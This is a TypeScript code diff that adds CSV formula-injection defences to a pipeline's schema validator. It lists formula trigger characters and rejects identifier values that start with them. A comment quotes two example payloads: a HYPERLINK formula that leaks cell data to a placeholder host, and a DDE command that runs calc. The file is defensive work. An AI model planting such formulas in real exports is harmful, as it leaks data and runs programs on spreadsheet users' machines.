@@ -15,6 +15,12 @@ export interface ColumnSpec {
   readonly nullable?: boolean;
   /** Closed list of values the source promises (checked at extract time). */
   readonly values?: readonly string[];
+  /**
+   * An identifier (an id, key or code), which may not start like a spreadsheet formula (see
+   * FORMULA_TRIGGERS). Default: a text column without a closed list of values that is part of the
+   * primary key or is named `*_id`, `*_key`, `*_code` or `sku`. Set it to say otherwise.
+   */
+  readonly identifier?: boolean;
 }
 
 export interface TableSpec {
@@ -49,6 +55,33 @@ export const postgresTypeOf: Record<ColumnType, string> = {
   boolean: "boolean",
 };
 
+/**
+ * The characters a spreadsheet (Excel, WPS, LibreOffice) reads as the start of a formula when it
+ * opens a CSV: OWASP's CSV-injection list. `=HYPERLINK("http://x?leak="&A1,"Click")` in a cell
+ * sends the sheet's data away when clicked; `+cmd|' /C calc'!A0` runs a program.
+ */
+export const FORMULA_TRIGGERS = ["=", "+", "-", "@", "\t", "\r"] as const;
+
+/** True when a spreadsheet opening the text in a CSV would take it for a formula. */
+export function startsLikeFormula(value: string): boolean {
+  return FORMULA_TRIGGERS.some((trigger) => value.startsWith(trigger));
+}
+
+/**
+ * Why an identifier starting like a formula is rejected. Ids reach leadership's spreadsheets through
+ * every download of every report table, and no id needs these characters in front, so the record is
+ * quarantined rather than loaded (free text is neutralised where it is written out instead).
+ */
+export const FORMULA_IDENTIFIER_REASON =
+  "starts with =, +, -, @, a tab or a carriage return, which spreadsheets run as a formula; no identifier needs them: correct it at the source";
+
+/** Whether a column is an identifier (see ColumnSpec.identifier). */
+export function isIdentifierColumn(table: TableSpec, column: ColumnSpec): boolean {
+  if (column.identifier !== undefined) return column.identifier;
+  if (column.type !== "text" || column.values) return false;
+  return table.primaryKey.includes(column.name) || /(_id|_key|_code)$|^sku$/.test(column.name);
+}
+
 const isoDate = /^\d{4}-\d{2}-\d{2}$/;
 const isoTimestamp = /^\d{4}-\d{2}-\d{2}[T ]\d{2}:\d{2}(:\d{2}(\.\d+)?)?(Z|[+-]\d{2}:?\d{2})?$/;
 
@@ -68,11 +101,15 @@ const finiteNumber = z.preprocess(
   z.number().finite(),
 );
 
-function zodForColumn(column: ColumnSpec): z.ZodType {
+function zodForColumn(column: ColumnSpec, identifier: boolean): z.ZodType {
   let schema: z.ZodType;
   switch (column.type) {
     case "text":
-      schema = column.values ? z.enum(column.values as [string, ...string[]]) : z.string();
+      schema = column.values
+        ? z.enum(column.values as [string, ...string[]])
+        : identifier
+          ? z.string().refine((s) => !startsLikeFormula(s), FORMULA_IDENTIFIER_REASON)
+          : z.string();
       break;
     case "integer":
     case "bigint":
@@ -109,7 +146,7 @@ function zodForColumn(column: ColumnSpec): z.ZodType {
 /** A zod validator for one record of the table; unknown fields are rejected so drift is never silent. */
 export function recordSchema(table: TableSpec) {
   const shape: Record<string, z.ZodType> = {};
-  for (const column of table.columns) shape[column.name] = zodForColumn(column);
+  for (const column of table.columns) shape[column.name] = zodForColumn(column, isIdentifierColumn(table, column));
   return z.strictObject(shape);
 }
 
